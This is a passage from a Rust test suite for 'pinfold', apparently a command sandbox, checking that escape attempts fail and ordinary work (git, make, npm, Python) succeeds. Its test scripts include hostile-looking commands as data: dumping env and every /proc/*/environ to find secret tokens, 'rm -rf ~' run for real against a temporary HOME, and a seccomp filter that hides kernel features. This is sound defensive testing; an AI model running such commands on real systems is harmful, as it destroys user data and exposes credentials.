        let script = fx.py_script("engines", &body);
        let r = if sandboxed {
            fx.exec(&[], &script)
        } else {
            fx.control(&script)
        };
        let ch: Vec<String> = ls
            .iter()
            .zip(&paths)
            .filter(|(l, _)| l.accept().is_ok())
            .map(|(_, p)| format!("a connection reached the engine socket {}", p.display()))
            .collect();
        let _ = fs::remove_file(&system);
        (r, ch)
    };
    let mut c = Fx::new(u, "container_engine_sockets_hidden");
    let (r, ch) = go(&mut c, false);
    c.assert_control(&r, &ch, true);
    let mut a = Fx::new(u, "container_engine_sockets_hidden");
    let (r, ch) = go(&mut a, true);
    a.assert_refused(&r, &ch);
}

// ---------------------------------------------------------------------------------------------
// 20. Environment
// ---------------------------------------------------------------------------------------------

both_users!(secrets_scrubbed_from_environment);

/// ESCAPES 20, Proof "secrets in the environment": the values of `GITHUB_TOKEN`,
/// `AWS_SECRET_ACCESS_KEY`, `MY_API_KEY`, `DB_PASSWORD`, … appear nowhere inside (`env`,
/// `/proc/1/environ`, any visible `/proc/*/environ`); `--keep-env` keeps the one it names.
fn secrets_scrubbed_from_environment(u: User) {
    let vars = [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_ACCESS_KEY_ID",
        "AWS_SESSION_TOKEN",
        "MY_API_KEY",
        "DB_PASSWORD",
        "CLIENT_SECRET",
    ];
    let setup = |fx: &mut Fx| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = vars
            .iter()
            .map(|k| (k.to_string(), unique(&format!("val-{k}-"))))
            .collect();
        v.push(("KEEP_ME_TOKEN".into(), unique("val-KEEP_ME_TOKEN-")));
        for (k, val) in &v {
            fx.env.insert(k.clone(), val.clone());
        }
        v
    };
    let script = |fx: &Fx| {
        fx.sh_script(
            "env",
            "echo '--- env'; env\necho '--- /proc/1/environ'; tr '\\0' '\\n' < /proc/1/environ\n\
             echo '--- all environ'; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done\n",
        )
    };
    let mut c = Fx::new(u, "secrets_scrubbed_from_environment");
    let vals = setup(&mut c);
    let r = c.control(&script(&c));
    let seen: Vec<String> = vals
        .iter()
        .filter(|(_, v)| r.stdout.contains(v.as_str()))
        .map(|(k, _)| k.clone())
        .collect();
    c.assert_control(&r, &seen, false);

    let mut a = Fx::new(u, "secrets_scrubbed_from_environment");
    let vals = setup(&mut a);
    let r = a.exec(&["--keep-env", "KEEP_ME_TOKEN"], &script(&a));
    let mut bad: Vec<String> = vals
        .iter()
        .filter(|(k, v)| k != "KEEP_ME_TOKEN" && r.all().contains(v.as_str()))
        .map(|(k, _)| format!("${k}'s value is visible inside"))
        .collect();
    let keep = &vals
        .iter()
        .find(|(k, _)| k == "KEEP_ME_TOKEN")
        .expect("kept var")
        .1;
    if r.started() && !r.stdout.contains(&format!("KEEP_ME_TOKEN={keep}")) {
        bad.push("--keep-env KEEP_ME_TOKEN did not keep it".into());
    }
    a.assert_refused(&r, &bad);
}

// ---------------------------------------------------------------------------------------------
// 21. Missing kernel features
// ---------------------------------------------------------------------------------------------

/// Runs argv under a seccomp filter that makes a kernel feature look absent, the way a
/// container runtime's profile or an old kernel would: `landlock` (landlock_* → ENOSYS) or
/// `userns` (unshare/clone with CLONE_NEWUSER → EPERM, clone3 → ENOSYS so libc falls back).
const FEATURE_HIDER: &str = r#"import ctypes, os, struct, sys
mode = sys.argv[1]
def ins(code, jt, jf, k): return struct.pack("HBBI", code, jt, jf, k)
LD, JEQ, JSET, RET = 0x20, 0x15, 0x45, 0x06
ALLOW = 0x7fff0000
def ERR(e): return 0x00050000 | e
p = [ins(LD, 0, 0, 4), ins(JEQ, 1, 0, 0xc000003e), ins(RET, 0, 0, ALLOW), ins(LD, 0, 0, 0)]
if mode == "landlock":
    for nr in (444, 445, 446):
        p += [ins(JEQ, 0, 1, nr), ins(RET, 0, 0, ERR(38))]
elif mode == "userns":
    p += [ins(JEQ, 0, 1, 435), ins(RET, 0, 0, ERR(38))]
    for nr in (272, 56):
        p += [ins(JEQ, 0, 4, nr), ins(LD, 0, 0, 16), ins(JSET, 0, 1, 0x10000000), ins(RET, 0, 0, ERR(1)), ins(RET, 0, 0, ALLOW)]
else:
    sys.exit("unknown mode " + mode)
p.append(ins(RET, 0, 0, ALLOW))
buf = ctypes.create_string_buffer(b"".join(p))
class fprog(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
prog = fprog(len(p), ctypes.cast(buf, ctypes.c_void_p))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0, "PR_SET_NO_NEW_PRIVS"
assert libc.prctl(22, 2, ctypes.byref(prog), 0, 0) == 0, "PR_SET_SECCOMP: errno %d" % ctypes.get_errno()
os.execvp(sys.argv[2], sys.argv[2:])
"#;

both_users!(missing_landlock_refuses_clearly);
only_user!(nobody: missing_user_namespaces_refuses_clearly);

fn feature_case(
    u: User,
    name: &str,
    mode: &str,
    probe: &str,
    layer_words: &[&str],
    degraded_ok: bool,
) {
    let fx = Fx::new(u, name);
    let hider = fx.base.join("hide_feature.py");
    fx.put(&hider, FEATURE_HIDER);
    let probe = fx.sh_script("probe", probe);
    let wrap = |argv: Vec<String>| {
        let mut v = vec![PY.to_string(), Fx::s(&hider), mode.to_string()];
        v.extend(argv);
        v
    };
    // Control: the feature really is gone under the hider (and present without it).
    let r = fx.control(&wrap(probe.clone()));
    assert!(
        r.stdout.contains("refused:") && r.escaped().is_empty(),
        "{}: CONTROL FAILED: the {mode} hider does not hide {mode}\n{}",
        fx.label(),
        r.show()
    );
    let r = fx.control(&probe);
    assert!(
        r.stdout.contains("ESCAPED:"),
        "{}: CONTROL FAILED: this host lacks {mode} even without the hider; the test cannot show \
         pinfold's reaction to losing it\n{}",
        fx.label(),
        r.show()
    );
    // Without --allow-degraded: exit 125, an error naming the layer, the command never runs.
    let cmd = vec!["touch".to_string(), Fx::s(&fx.proj.join("ran"))];
    let full = wrap(fx.exec_argv(&[], &cmd));
    let r = run_cmd(fx.cmd(&full), full.join(" "), None, TIMEOUT);
    fx.check_implemented(&r);
    let named = layer_words
        .iter()
        .any(|w| r.stderr.to_lowercase().contains(w));
    let ran = fx.proj.join("ran").exists();
    assert!(
        r.code == Some(125) && named && !ran,
        "{}: with {mode} unavailable, `pinfold exec` must exit 125 with an error naming the \
         missing layer ({layer_words:?}) and not run the command. exit {:?}, named: {named}, \
         command ran: {ran}\n{}",
        fx.label(),
        r.code,
        r.show()
    );
    if degraded_ok {
        // With --allow-degraded it may run, and then the report must say what is missing.
        let report = fx.out.join("report.json");
        let rp = Fx::s(&report);
        let full = wrap(fx.exec_argv(&["--allow-degraded", "--report", &rp], &cmd));
        let r = run_cmd(fx.cmd(&full), full.join(" "), None, TIMEOUT);
        let text = fs::read_to_string(&report)
            .unwrap_or_default()
            .to_lowercase();
        assert!(
            r.code == Some(0)
                && fx.proj.join("ran").exists()
                && layer_words.iter().any(|w| text.contains(w)),
            "{}: with {mode} unavailable and --allow-degraded, the command should run (exit 0) and \
             --report should name the missing layer; report: {text:?}\n{}",
            fx.label(),
            r.show()
        );
        assert!(
            serde_json::from_str::<serde_json::Value>(&text).is_ok(),
            "{}: --report is not JSON: {text:?}",
            fx.label()
        );
    }
}

/// ESCAPES 21: no Landlock (landlock_create_ruleset → ENOSYS).
fn missing_landlock_refuses_clearly(u: User) {
    feature_case(
        u,
        "missing_landlock_refuses_clearly",
        "landlock",
        "r=$(/usr/bin/python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); print(l.syscall(444, None, 0, 1), ctypes.get_errno())')\n\
         case $r in -1*) echo \"refused: no landlock ($r)\";; *) echo \"ESCAPED: landlock ABI $r\";; esac\n",
        &["landlock"],
        true,
    );
}

/// ESCAPES 21: no unprivileged user namespaces. uid 65534 only: root can build mount and pid
/// namespaces without a user namespace, so pinfold need not refuse there.
fn missing_user_namespaces_refuses_clearly(u: User) {
    feature_case(
        u,
        "missing_user_namespaces_refuses_clearly",
        "userns",
        "t 'unshare -U' 'unshare -U true'\n",
        &["namespace", "userns"],
        false,
    );
}

// ---------------------------------------------------------------------------------------------
// Exit codes, stdio, flags
// ---------------------------------------------------------------------------------------------

both_users!(
    exit_status_passthrough,
    exit_127_for_missing_command,
    command_search_as_bash_does,
    exit_126_for_denied_and_asked,
    stdin_passthrough,
    signal_dispositions_as_the_caller_left_them,
    one_argument_is_shell_several_are_argv,
    report_json_written,
    dry_run_runs_nothing,
    flag_write_grants_a_path,
    flag_deny_write_and_deny_read,
    flag_cwd,
    flag_net_on_reaches_loopback,
    nothing_runs_when_the_tree_cannot_be_built,
);

fn expect_code(fx: &Fx, r: &Run, want: i32, what: &str) {
    assert!(
        r.code == Some(want) && !r.timed_out,
        "{}: {what}: want exit {want}, got {:?}\n{}",
        fx.label(),
        r.code,
        r.show()
    );
}

/// Issue 3: the command's own status; 128+N for a signal.
fn exit_status_passthrough(u: User) {
    let fx = Fx::new(u, "exit_status_passthrough");
    let r = fx.control(&["sh".into(), "-c".into(), "kill -TERM $$".into()]);
    assert_eq!(
        r.signal,
        Some(15),
        "{}: CONTROL FAILED: sh did not die of SIGTERM\n{}",
        fx.label(),
        r.show()
    );
    expect_code(&fx, &fx.exec(&[], &["exit 42".into()]), 42, "`exit 42`");
    expect_code(
        &fx,
        &fx.exec(&[], &["kill -TERM $$".into()]),
        143,
        "`kill -TERM $$` (128+15)",
    );
    expect_code(
        &fx,
        &fx.exec(&[], &["bash".into(), "-c".into(), "kill -KILL $$".into()]),
        137,
        "argv `bash -c 'kill -KILL $$'` (128+9)",
    );
    expect_code(&fx, &fx.exec(&[], &["true".into()]), 0, "`true`");
}

fn exit_127_for_missing_command(u: User) {
    let fx = Fx::new(u, "exit_127_for_missing_command");
    expect_code(
        &fx,
        &fx.exec(&[], &["pinfold-no-such-command-xyz".into(), "arg".into()]),
        127,
        "argv of a missing command",
    );
    expect_code(
        &fx,
        &fx.exec(&[], &["pinfold-no-such-command-xyz".into()]),
        127,
        "one-word missing command",
    );
}

/// A one-word command runs without a shell, so pinfold searches `PATH` itself: the same
/// file, exit status and message as bash, for each `PATH` below (issue 14). `locked` is a
/// directory the user cannot search (root-owned, mode 0; root inside the sandbox has no
/// capability to pass that), `noexec/tool` a file without execute bits, `subdir/tool` a
/// directory, `exec/tool` an executable script. bash runs inside the same sandbox (`exec --
/// /bin/bash -c tool`); as uid 65534 also on the host, as the control.
fn command_search_as_bash_does(u: User) {
    let fx = Fx::new(u, "command_search_as_bash_does");
    let bin = fx.proj.join(".t/bin");
    let tool = "pinfold-probe-tool";
    for d in ["locked", "noexec", "subdir", "exec"] {
        fs::create_dir_all(bin.join(d)).expect("mkdir");
    }
    fs::write(bin.join("noexec").join(tool), "#!/bin/sh\necho ran noexec\n").expect("write");
    fs::create_dir_all(bin.join("subdir").join(tool)).expect("mkdir");
    fs::write(bin.join("exec").join(tool), "#!/bin/sh\necho ran exec\n").expect("write");
    fx.own();
    fs::set_permissions(bin.join("noexec").join(tool), fs::Permissions::from_mode(0o644)).expect("chmod");
    fs::set_permissions(bin.join("exec").join(tool), fs::Permissions::from_mode(0o755)).expect("chmod");
    // After `own`: root's, closed to everyone.
    let locked = bin.join("locked");
    std::os::unix::fs::chown(&locked, Some(0), Some(0)).expect("chown");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o000)).expect("chmod");
    let dir = |d: &str| Fx::s(&bin.join(d));
    // (PATH, command, exit status, what stdout or stderr shows)
    let noexec_tool = format!("{}/{tool}", dir("noexec"));
    let subdir_tool = format!("{}/{tool}", dir("subdir"));
    let cases: [(String, &str, i32, String); 10] = [
        (format!("{}:/usr/bin:/bin", dir("locked")), "definitely-not-a-command", 127, "definitely-not-a-command: command not found".into()),
        (format!("{}:{}:{}", dir("locked"), dir("noexec"), dir("exec")), tool, 0, "ran exec".into()),
        (format!("{}:{}", dir("locked"), dir("noexec")), tool, 126, format!("{}/{tool}: Permission denied", dir("noexec"))),
        (format!("{}:{}:{}", dir("locked"), dir("subdir"), dir("exec")), tool, 0, "ran exec".into()),
        (format!("{}:{}", dir("locked"), dir("subdir")), tool, 127, format!("{tool}: command not found")),
        (format!("{}:{}", dir("noexec"), dir("subdir")), tool, 126, format!("{}/{tool}: Permission denied", dir("noexec"))),
        (format!("{}:{}", dir("subdir"), dir("noexec")), tool, 127, format!("{tool}: command not found")),
        (dir("locked"), &noexec_tool, 126, format!("{noexec_tool}: Permission denied")),
        (dir("locked"), &subdir_tool, 126, format!("{subdir_tool}: Is a directory")),
        (dir("locked"), "./no-such-file", 127, "./no-such-file: No such file or directory".into()),
    ];
    for (path, command, code, what) in &cases {
        // `env PATH=…` after setpriv, which is found with the fixture's PATH.
        let run = |argv: Vec<String>| {
            let mut full = vec!["/usr/bin/env".to_string(), format!("PATH={path}")];
            full.extend(argv);
            run_cmd(fx.cmd(&full), full.join(" "), None, TIMEOUT)
        };
        let label = format!("{}: PATH={path} {command}", fx.label());
        let ours = run(fx.exec_argv(&[], &[command.to_string()]));
        let bash_inside = run(fx.exec_argv(&[], &["/bin/bash".into(), "-c".into(), command.to_string()]));
        assert_eq!(bash_inside.code, Some(*code), "{label}: bash in the sandbox (the reference) did not exit {code}\n{}", bash_inside.show());
        assert!(bash_inside.all().contains(what.as_str()), "{label}: bash in the sandbox did not say {what:?}\n{}", bash_inside.show());
        if u == User::Nobody {
            let host = run(vec!["/bin/bash".into(), "-c".into(), command.to_string()]);
            assert_eq!(host.code, Some(*code), "{label}: CONTROL FAILED: bash on the host did not exit {code}\n{}", host.show());
        }
        assert_eq!(ours.code, Some(*code), "{label}: pinfold exec's status differs from bash's\n{}", ours.show());
        assert!(ours.all().contains(what.as_str()), "{label}: pinfold exec did not say {what:?}\n{}", ours.show());
    }
}

/// Issue 3: denied (or asked, since exec cannot ask) → 126 with the reason; with no `-c` and
/// no config file at all, in a temp HOME, under the embedded default policy.
fn exit_126_for_denied_and_asked(u: User) {
    // Control: `rm -rf ~` really is destructive here (it deletes the temp HOME).
    let c = Fx::new(u, "exit_126_for_denied_and_asked");
    let h = Fx::s(&c.home);
    let r = c.control(&[
        "bash".into(),
        "-c".into(),
        format!("[ \"$HOME\" = {h} ] || exit 99; rm -rf ~"),
    ]);
    assert!(
        !c.home.exists(),
        "{}: CONTROL FAILED: `rm -rf ~` did not delete the temp HOME\n{}",
        c.label(),
        r.show()
    );
    let mut fx = Fx::new(u, "exit_126_for_denied_and_asked");
    fx.config = None;
    let _ = fs::remove_file(fx.proj.join("pinfold.toml"));
    let r = fx.exec(&[], &["rm -rf ~".into()]);
    expect_code(&fx, &r, 126, "`rm -rf ~` under the default policy (deny)");
    assert!(
        fx.home.join(".ssh/id_rsa").exists() && !r.stderr.trim().is_empty(),
        "{}: HOME must be intact and stderr must give the reason\n{}",
        fx.label(),
        r.show()
    );
    // An unknown command is `ask` under the default policy: exec cannot ask, so 126, not run.
    let marker = fx.proj.join("asked-ran");
    // (`truncate` has no rule in the default policy; interpreters with a script are allowed.)
    let r = fx.exec(&[], &["truncate".into(), "-s".into(), "0".into(), Fx::s(&marker)]);
    expect_code(
        &fx,
        &r,
        126,
        "an unknown command (ask) under the default policy",
    );
    assert!(
        !marker.exists(),
        "{}: the asked command ran anyway",
        fx.label()
    );
}

fn stdin_passthrough(u: User) {
    let fx = Fx::new(u, "stdin_passthrough");
    let r = fx.exec_stdin(&[], &["cat".into()], Some("hi\nthere\n"));
    assert!(
        r.code == Some(0) && r.stdout == "hi\nthere\n",
        "{}: `echo hi | pinfold exec -- cat` must print hi\n{}",
        fx.label(),
        r.show()
    );
}

/// pinfold ignores SIGPIPE for itself; the command must get the dispositions pinfold's
/// caller left: `yes | head -1` ends quietly as it does outside, and a signal the caller
/// ignores (`trap '' PIPE`, `nohup`-style) stays ignored.
fn signal_dispositions_as_the_caller_left_them(u: User) {
    let fx = Fx::new(u, "signal_dispositions_as_the_caller_left_them");
    let text = "yes | head -1; grep SigIgn /proc/self/status";
    let outside = fx.control(&["bash".into(), "-c".into(), text.into()]);
    assert!(
        outside.code == Some(0) && outside.stderr.is_empty() && outside.stdout.starts_with("y\n"),
        "{}: CONTROL FAILED: `yes | head -1` was not quiet outside the sandbox\n{}",
        fx.label(),
        outside.show()
    );
    let inside = fx.exec(&[], &[text.into()]);
    assert!(
        inside.code == Some(0) && inside.stderr.is_empty() && inside.stdout == outside.stdout,
        "{}: inside the sandbox the command must see the caller's dispositions (no SIGPIPE \
         ignored, no `yes: standard output: Broken pipe`)\n{}\noutside:\n{}",
        fx.label(),
        inside.show(),
        outside.show()
    );
    // A caller that ignores SIGPIPE and SIGINT: the command inherits both, as a command the
    // caller ran directly does (the control: whatever else the test's own environment ignores
    // shows on both sides).
    let caller = "trap '' PIPE INT; exec \"$@\"";
    let direct = fx.control(&["bash".into(), "-c".into(), caller.into(), "caller".into(), "grep".into(), "SigIgn".into(), "/proc/self/status".into()]);
    let bits = |r: &Run| u64::from_str_radix(r.stdout.trim().trim_start_matches("SigIgn:").trim(), 16).ok();
    assert!(
        bits(&direct).is_some_and(|b| b & 0x1002 == 0x1002),
        "{}: CONTROL FAILED: `trap '' PIPE INT` did not ignore both\n{}",
        fx.label(),
        direct.show()
    );
    let mut full = vec!["bash".to_string(), "-c".into(), caller.into(), "caller".into()];
    full.extend(fx.exec_argv(&[], &["grep SigIgn /proc/self/status".into()]));
    let r = run_cmd(fx.cmd(&full), full.join(" "), None, TIMEOUT);
    assert!(
        r.code == Some(0) && bits(&r) == bits(&direct),
        "{}: a caller's ignored signals must reach the command as they reach one run directly\n{}\ndirect:\n{}",
        fx.label(),
        r.show(),
        direct.show()
    );
}

fn one_argument_is_shell_several_are_argv(u: User) {
    let fx = Fx::new(u, "one_argument_is_shell_several_are_argv");
    let r = fx.exec(&[], &["echo a; echo b".into()]);
    assert!(
        r.code == Some(0) && r.stdout == "a\nb\n",
        "{}: one argument runs as sh -c\n{}",
        fx.label(),
        r.show()
    );
    let r = fx.exec(
        &[],
        &["printf".into(), "%s|".into(), "a b".into(), "$HOME;".into()],
    );
    assert!(
        r.code == Some(0) && r.stdout == "a b|$HOME;|",
        "{}: several arguments are an argv, no shell expansion\n{}",
        fx.label(),
        r.show()
    );
}

/// `--report FILE`: JSON naming the writable roots (the project), the layers, and a granted
/// path that does not exist ("grants nothing and must be reported, not silently dropped").
fn report_json_written(u: User) {
    let fx = Fx::new(u, "report_json_written");
    let report = fx.out.join("report.json");
    let missing = fx.out.join("does-not-exist");
    let r = fx.exec(
        &["--report", &Fx::s(&report), "--write", &Fx::s(&missing)],
        &["true".into()],
    );
    expect_code(&fx, &r, 0, "`true` with --report");
    let text = fs::read_to_string(&report)
        .unwrap_or_else(|e| panic!("{}: no report at {}: {e}", fx.label(), report.display()));
    let json: serde_json::Value = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("{}: report is not JSON ({e}): {text}", fx.label()));
    let low = text.to_lowercase();
    for want in [
        Fx::s(&fx.proj).to_lowercase(),
        "landlock".into(),
        "seccomp".into(),
        Fx::s(&missing).to_lowercase(),
    ] {
        assert!(
            low.contains(&want),
            "{}: the report does not mention {want:?}: {json:#}",
            fx.label()
        );
    }
}

fn dry_run_runs_nothing(u: User) {
    let fx = Fx::new(u, "dry_run_runs_nothing");
    let marker = fx.proj.join("dry-ran");
    let r = fx.exec(&["--dry-run"], &["touch".into(), Fx::s(&marker)]);
    assert!(
        r.code == Some(0) && !marker.exists() && r.stdout.contains(&Fx::s(&fx.proj)),
        "{}: --dry-run must print the resolved policy (naming the project) and run nothing\n{}",
        fx.label(),
        r.show()
    );
}

fn flag_write_grants_a_path(u: User) {
    let fx = Fx::new(u, "flag_write_grants_a_path");
    let extra = fx.out.join("extra");
    fs::create_dir_all(&extra).expect("mkdir");
    fx.own();
    let f = extra.join("f");
    // In a script file: the policy layer asks for a visible redirect outside the preset's roots
    // even with --write (seen: exit 126 "which the `workspace` sandbox cannot write"); this
    // case is about the sandbox honouring --write.
    let w = fx.sh_script("write_f", &format!("echo ok > {}", Fx::s(&f)));
    let r = fx.exec(&["--write", &Fx::s(&extra)], &w);
    let w = fx.sh_script("write_g", &format!("echo ok > {}", Fx::s(&extra.join("g"))));
    let r2 = fx.exec(&[], &w);
    assert!(
        r.code == Some(0)
            && fs::read_to_string(&f).ok().as_deref() == Some("ok\n")
            && !extra.join("g").exists(),
        "{}: --write DIR must make DIR writable for that run only\n{}\n{}",
        fx.label(),
        r.show(),
        r2.show()
    );
}

fn flag_deny_write_and_deny_read(u: User) {
    let fx = Fx::new(u, "flag_deny_write_and_deny_read");
    fx.put(&fx.proj.join("sub/keep.txt"), "keep\n");
    fx.put(&fx.proj.join("notes.txt"), &format!("{}\n", fx.token));
    fx.own();
    let r = fx.exec(
        &["--deny-write", "sub", "--deny-read", "notes.txt"],
        &[
            "bash".into(),
            "-c".into(),
            "echo x > sub/keep.txt; echo x > sub/new.txt; cat notes.txt; exit 0".into(),
        ],
    );
    let keep = fs::read_to_string(fx.proj.join("sub/keep.txt")).unwrap_or_default();
    assert!(
        r.code == Some(0)
            && keep == "keep\n"
            && !fx.proj.join("sub/new.txt").exists()
            && !r.all().contains(&fx.token),
        "{}: --deny-write sub / --deny-read notes.txt not enforced (keep.txt: {keep:?})\n{}",
        fx.label(),
        r.show()
    );
}

fn flag_cwd(u: User) {
    let fx = Fx::new(u, "flag_cwd");
    fs::create_dir_all(fx.proj.join("sub")).expect("mkdir");
    fx.own();
    let r = fx.exec(&["--cwd", &Fx::s(&fx.proj.join("sub"))], &["pwd".into()]);
    assert!(
        r.code == Some(0) && r.stdout.trim() == Fx::s(&fx.proj.join("sub")),
        "{}: --cwd DIR must run the command in DIR\n{}",
        fx.label(),
        r.show()
    );
}

/// The command process is forked before init builds the tree and confines itself meanwhile
/// (child.rs); it must still run nothing when init then fails. Here init's last step fails:
/// the working directory lies under a hidden directory, so it is missing from the tree. The
/// command would write a marker outside the project; exit 125, no marker. The control, the
/// same run without the hiding, writes it.
fn nothing_runs_when_the_tree_cannot_be_built(u: User) {
    let fx = Fx::new(u, "nothing_runs_when_the_tree_cannot_be_built");
    fs::create_dir_all(fx.proj.join("sub")).expect("mkdir");
    let out = fx.out.join("tree");
    fs::create_dir_all(&out).expect("mkdir");
    fx.own();
    let marker = out.join("ran");
    let argv = ["touch".to_string(), Fx::s(&marker)];
    let cwd = Fx::s(&fx.proj.join("sub"));
    let r = fx.exec(&["--cwd", &cwd, "--deny-read", &Fx::s(&fx.proj), "--write", &Fx::s(&out)], &argv);
    assert!(
        r.code == Some(125) && r.stderr.contains("chdir") && !marker.exists(),
        "{}: init failed to build the tree (the working directory is hidden): exit 125 naming the step, and nothing run\n{}",
        fx.label(),
        r.show()
    );
    let r = fx.exec(&["--cwd", &cwd, "--write", &Fx::s(&out)], &argv);
    assert!(r.code == Some(0) && marker.exists(), "{}: the control run must write the marker\n{}", fx.label(), r.show());
}

/// The positive side of `--net on`: a host loopback listener is reachable (so the network
/// attacks above fail because of `off`, not because networking is broken).
fn flag_net_on_reaches_loopback(u: User) {
    let fx = Fx::new(u, "flag_net_on_reaches_loopback");
    let l = Listeners::new();
    let r = fx.exec(
        &["--net", "on"],
        &[
            "curl".into(),
            "-sS".into(),
            "-m".into(),
            "5".into(),
            format!("http://127.0.0.1:{}/", l.tcp4),
        ],
    );
    assert!(
        r.code == Some(0) && r.stdout.contains("ok") && !l.arrivals().is_empty(),
        "{}: with --net on, a host loopback listener must be reachable\n{}",
        fx.label(),
        r.show()
    );
}

// ---------------------------------------------------------------------------------------------
// Positive side: ordinary work succeeds (under the embedded default preset)
// ---------------------------------------------------------------------------------------------

both_users!(
    work_git_commit_existing_repo,
    work_git_commit_in_worktree,
    work_make,
    work_python_pycache,
    work_npm_install_from_local_tarball,
    work_tmpdir_writable,
);
only_user!(root: work_cargo_build_offline);

const GIT_ID: &str = "export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.invalid GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.invalid\n";

/// Run `body` without pinfold (control: the work itself is sound here) and inside
/// `pinfold exec` under the default preset; `check` inspects the host after each.
fn work_case(
    u: User,
    name: &str,
    setup: &dyn Fn(&mut Fx),
    body: &str,
    check: &dyn Fn(&Fx) -> Result<(), String>,
) {
    for sandboxed in [false, true] {
        let mut fx = Fx::new(u, name);
        fx.use_default_preset();
        setup(&mut fx);
        let argv = fx.sh_script("work", &format!("set -e\n{body}"));
        let r = if sandboxed {
            fx.exec(&[], &argv)
        } else {
            fx.control(&argv)
        };
        let res = if r.code == Some(0) {
            check(&fx)
        } else {
            Err(format!("exit {:?}", r.code))
        };
        if let Err(e) = res {
            panic!(
                "{}: {}: {e}\n{}",
                fx.label(),
                if sandboxed {
                    "ORDINARY WORK FAILED inside pinfold exec"
                } else {
                    "CONTROL FAILED: this work does not succeed on the host even without pinfold"
                },
                r.show()
            );
        }
    }
}

fn has_commit(fx: &Fx, dir: &Path, msg: &str) -> Result<(), String> {
    let h = history(fx, dir)?;
    if h.contains(msg) {
        Ok(())
    } else {
        Err(format!("no commit {msg:?} in history: {h}"))
    }
}

/// `.git/objects`, `refs`, `index` stay writable: `git add` + `git commit` work.
fn work_git_commit_existing_repo(u: User) {
    work_case(
        u,
        "work_git_commit_existing_repo",
        &|_| {},
        &format!(
            "{GIT_ID}echo change >> README\necho new > new.txt\ngit add README new.txt\ngit commit -q -m sandboxed-commit\ngit log --oneline | head -3\n"
        ),
        &|fx| has_commit(fx, &fx.proj, "sandboxed-commit"),
    );
}

/// `git init` in a directory that is not yet a repository is refused: the default preset
/// protects `.git/config` and `.git/hooks` even before they exist (a placeholder `.git` for the
/// run), because a config written from inside could set `core.hooksPath` or `core.fsmonitor`
/// and run code outside the sandbox later. Decision recorded in docs/design/threat-model.md;
/// run `git init` outside pinfold. The host must be left without a `.git`.
fn git_init_refused(u: User) {
    attack_case(
        u,
        "git_init_refused",
        &|fx| {
            let fresh = fx.base.join("fresh");
            fs::create_dir_all(&fresh).expect("mkdir");
            fx.cwd = fresh;
            fx.own();
        },
        &|fx| fx.sh_script("git_init", &format!("{GIT_ID}t 'git init' 'git init -q -b main'\n")),
        &|fx| {
            let g = fx.cwd.join(".git");
            if g.join("config").exists() || g.join("HEAD").exists() {
                vec![format!("{} was created", g.display())]
            } else {
                Vec::new()
            }
        },
    );
}

/// Issue 3 "git commit inside a worktree": `.git` is a file; the common git dir lives outside
/// the project and must be writable (objects, refs) for the commit to land there.
fn work_git_commit_in_worktree(u: User) {
    work_case(
        u,
        "work_git_commit_in_worktree",
        &|fx| {
            make_worktree(fx);
            let _ = fs::remove_file(fx.cwd.join("pinfold.toml"));
            fx.use_default_preset();
            let _ = fs::remove_file(fx.cwd.join("pinfold.toml"));
        },
        &format!(
            "{GIT_ID}test -f .git\necho wt > wt.txt\ngit add wt.txt\ngit commit -q -m worktree-commit\n"
        ),
        &|fx| {
            let main = fx.out.join("main");
            let out = Command::new("git")
                .args(["-C", &Fx::s(&main), "log", "wt", "--format=%s"])
                .env_clear()
                .envs(&fx.env)
                .envs([
                    ("GIT_CONFIG_COUNT", "1"),
                    ("GIT_CONFIG_KEY_0", "safe.directory"),
                    ("GIT_CONFIG_VALUE_0", "*"),
                ])
                .output()
                .map_err(|e| e.to_string())?;
            let log = String::from_utf8_lossy(&out.stdout);
            if log.contains("worktree-commit") {
                Ok(())
            } else {
                Err(format!(
                    "branch wt in the main repo lacks the commit: {log}"
                ))
            }
        },
    );
}

fn work_make(u: User) {
    work_case(
        u,
        "work_make",
        &|fx| {
            fx.put(
                &fx.proj.join("Makefile"),
                "out.txt: in.txt\n\tcp in.txt out.txt\n\techo built >> out.txt\n",
            );
            fx.put(&fx.proj.join("in.txt"), "input\n");
            fx.own();
        },
        "make\n",
        &|fx| match fs::read_to_string(fx.proj.join("out.txt")) {
            Ok(s) if s == "input\nbuilt\n" => Ok(()),
            other => Err(format!("out.txt: {other:?}")),
        },
    );
}

fn work_python_pycache(u: User) {
    work_case(
        u,
        "work_python_pycache",
        &|fx| {
            fx.put(&fx.proj.join("mymod.py"), "VALUE = 41 + 1\n");
            fx.own();
        },
        "unset PYTHONDONTWRITEBYTECODE\n/usr/bin/python3 -c 'import mymod; print(mymod.VALUE)'\nls __pycache__\n",
        &|fx| {
            let found = fs::read_dir(fx.proj.join("__pycache__"))
                .map(|d| {
                    d.flatten()
                        .any(|e| e.file_name().to_string_lossy().starts_with("mymod."))
                })
                .unwrap_or(false);
            if found {
                Ok(())
            } else {
                Err("no __pycache__/mymod.*.pyc".into())
            }
        },
    );
}

/// `npm install` of a local tarball (made with `npm pack` on the host), offline, with the
/// npm cache at `~/.npm` (a toolchain cache the default preset should make writable).
fn work_npm_install_from_local_tarball(u: User) {
    work_case(
        u,
        "work_npm_install_from_local_tarball",
        &|fx| {
            let dep = fx.out.join("dep");
            fx.put(
                &dep.join("package.json"),
                r#"{"name":"pinfold-dep","version":"1.0.0","main":"index.js"}"#,
            );
            fx.put(&dep.join("index.js"), "module.exports = 42;\n");
            fx.put(
                &fx.proj.join("package.json"),
                r#"{"name":"proj","version":"1.0.0","private":true}"#,
            );
            fs::create_dir_all(fx.home.join(".npm")).expect("mkdir ~/.npm");
            let out = Command::new("npm")
                .args(["pack", "--silent", "--pack-destination", &Fx::s(&fx.out)])
                .current_dir(&dep)
                .env_clear()
                .envs(&fx.env)
                .output()
                .expect("run npm pack");
            assert!(
                out.status.success(),
                "npm pack failed: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            fx.own();
        },
